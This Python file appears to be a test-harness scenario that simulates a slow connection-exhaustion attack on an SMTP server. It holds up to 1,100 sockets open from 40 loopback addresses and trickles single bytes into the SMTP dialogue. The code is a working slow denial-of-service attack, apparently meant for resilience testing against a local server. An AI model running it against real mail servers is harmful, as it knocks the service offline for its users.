from _crowd import hold

WHAT = "1,100 SMTP connections from 40 addresses that send an octet now and then, some of them inside of a message"
STARTS = [b"EH", b"EHLO x.example\r\nMAIL FROM:<>\r\nRC", b"EHLO x.example\r\nMAIL FROM:<>\r\nRCPT TO:<postmaster@office.test>\r\nDATA\r\nX"]


def attack(box, stop):
    open_, cut = [], 0
    while not stop.is_set():
        kept = []
        for s in open_:
            try:
                if s.send(b"x"):
                    kept.append(s)
            except OSError:
                cut += 1
                s.close()
        open_ = kept
        for n in range(min(100, 1_100 - len(open_))):
            try:
                s = box.connect("smtp", f"127.0.7.{n % 40 + 1}", 2)
                s.send(STARTS[n % 3])
                s.setblocking(False)
                open_.append(s)
            except OSError:
                pass
        stop.wait(1)
    hold(stop, open_)
    return f"{len(open_)} open at the end, {cut} cut"
